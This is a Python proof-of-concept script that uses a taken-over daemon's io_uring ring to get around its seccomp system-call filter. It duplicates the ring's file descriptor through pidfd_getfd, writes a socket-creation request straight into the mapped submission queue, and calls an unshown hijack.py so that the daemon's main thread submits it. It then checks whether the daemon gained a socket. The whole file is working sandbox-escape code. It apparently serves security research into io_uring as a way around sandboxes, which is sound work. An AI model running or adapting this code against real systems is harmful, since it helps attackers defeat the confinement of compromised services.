"""What somebody can still do with the rings of a daemon that he has taken over: asks one of them for a socket, which its filter of system calls refuses.

ring.py PID: prints "yes" if the daemon got one, else "no". x86-64. The ring's memory is that of the daemon; the call that submits is made in its main thread by hijack.py."""
import ctypes, mmap, os, struct, subprocess, sys, time

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER, PIDFD_OPEN, PIDFD_GETFD = 425, 426, 434, 438
SQE128, CQSIZE, SUBMIT_ALL = 1 << 10, 1 << 3, 1 << 7
OP_SOCKET, CQE_SKIP_SUCCESS = 45, 1 << 6
AF_INET, SOCK_DGRAM = 2, 2


def call(number, *args):
    result = libc.syscall(number, *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"system call {number}")
    return result


def ring_of(pid):
    for fd in sorted(map(int, os.listdir(f"/proc/{pid}/fd"))):
        if os.readlink(f"/proc/{pid}/fd/{fd}") == "anon_inode:[io_uring]":
            return fd
    raise SystemExit("it has no ring")


def sockets(pid):
    links = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
    return sorted(link for link in links if link.startswith("socket:"))


def info(pid, fd):
    return {k: int(v, 0) for k, v in (line.split(":", 1) for line in open(f"/proc/{pid}/fdinfo/{fd}") if line.startswith(("Sq", "Cq")) and "Busy" not in line) if v.strip().isdigit() or v.strip().startswith("0x")}


def main():
    pid = int(sys.argv[1])
    fd = ring_of(pid)
    entries = info(pid, fd)["SqMask"] + 1
    # One of our own of the same size: where its parts lie.
    params = bytearray(struct.pack("<10I", 0, entries * 2, SQE128 | CQSIZE | SUBMIT_ALL, 0, 0, 0, 0, 0, 0, 0) + bytes(80))
    call(SETUP, entries, (ctypes.c_char * len(params)).from_buffer(params))
    _, tail_at, _, _, _, _, array_at = struct.unpack_from("<7I", params, 40)
    ours = call(PIDFD_GETFD, call(PIDFD_OPEN, pid, 0), fd, 0)
    sq = mmap.mmap(ours, array_at + entries * 4, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    sqes = mmap.mmap(ours, entries * 128, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
    before = sockets(pid)
    tail = struct.unpack_from("<I", sq, tail_at)[0]
    index = tail & entries - 1
    sqes[index * 128:(index + 1) * 128] = struct.pack("<BBHiQQIIQ", OP_SOCKET, CQE_SKIP_SUCCESS, 0, AF_INET, SOCK_DGRAM, 0, 0, 0, 0).ljust(128, b"\0")
    struct.pack_into("<I", sq, array_at + index * 4, index)
    struct.pack_into("<I", sq, tail_at, tail + 1)
    here = os.path.dirname(os.path.abspath(__file__))
    said = subprocess.run([sys.executable, f"{here}/hijack.py", str(pid)], input=f"enter {ENTER} {fd} 1 0 0 0 0\n", text=True, capture_output=True, check=True).stdout
    if said.split() != ["enter", "1"]:
        raise SystemExit(f"it was not submitted: {said}")
    for _ in range(20):
        if len(sockets(pid)) > len(before):
            return print("yes")
        time.sleep(0.05)
    print("no")


main()
